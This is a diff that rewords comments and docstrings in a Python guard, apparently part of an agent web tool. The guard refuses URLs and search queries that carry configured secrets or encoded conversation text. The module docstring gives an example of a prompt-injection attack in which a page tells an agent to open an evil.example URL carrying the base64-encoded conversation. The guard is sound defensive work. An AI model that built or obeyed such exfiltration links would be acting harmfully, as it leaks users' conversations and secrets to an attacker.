@@ -1,6 +1,6 @@
 """Refuses URLs and queries that would leak data: configured secrets, and text encoded into a URL.
 
-A page can ask an agent to open `https://evil.example/?d=<base64 of the conversation>`. The agent sees one more
+A page can ask an agent to open `https://evil.example/?d=<base64 of the conversation>`. To the agent it is one more
 link; the guard finds a long run of characters that decodes to readable text. Signatures, ids and session tokens decode
 to random bytes and pass, so ordinary long URLs are not refused; a very long one only gets a note.
 """
@@ -17,7 +17,7 @@ from urllib.parse import quote, unquote_plus
 from mcp_web.errors import LeakBlocked
 
 _MIN_SECRET = 8  # a shorter value would be found by chance
-# Sixty decoded bytes hold a password or a sentence; redirect targets and search states below that are everyday.
+# Sixty decoded bytes can contain a password or a sentence; shorter redirect targets and search states are common.
 _MIN_RUN = 80
 _MIN_JSON = 400  # cursors and view states are JSON in base64 and rarely longer
 _LONG_NOISE = 1500
@@ -39,7 +39,7 @@ class LeakGuard:
         return self._check(url, "URL")
 
     def check_query(self, query: str) -> tuple[str, ...]:
-        """The same for words sent to a search provider."""
+        """Refuse a search query that contains a secret or hidden text; returns notes as `check_url` does."""
         return self._check(query, "query")
 
     def _check(self, text: str, what: str) -> tuple[str, ...]:
@@ -65,7 +65,7 @@ class LeakGuard:
     def _carries(self, decoded: str) -> bool:
         stripped = decoded.strip()
         if re.fullmatch(r"https?://\S+", stripped):
-            # A click counter that wraps its target: as harmless as the target.
+            # A redirector with its target as a parameter: checked by its target.
             return _wrapped_is_bad(self, stripped)
         return len(decoded) * 4 / 3 >= _MIN_JSON if stripped.startswith(('{"', '["', "[{")) else True
 
@@ -94,7 +94,7 @@ def _forms(secret: str) -> Iterator[str]:
 
 
 def _readings(text: str) -> Iterator[str]:
-    """The text as it stands and with percent-escapes undone, twice at most."""
+    """The text, and the text with percent-encoding decoded once and twice."""
     yield text
     for _ in range(2):
         undone = unquote_plus(text)
@@ -138,7 +138,7 @@ def _decodings(run: str) -> Iterator[bytes]:
     if _BASE32.fullmatch(upper):
         with suppress(binascii.Error, ValueError):
             yield base64.b32decode(upper.rstrip("=") + "=" * (-len(upper.rstrip("=")) % 8))
-    # A path glued to the run shifts the alignment, so all four starts are tried.
+    # Path characters before the run shift the alignment, so all four offsets are tried.
     for start in range(4):
         piece = run[start:].rstrip("=").replace("-", "+").replace("_", "/")
         piece = piece[: len(piece) - len(piece) % 4]
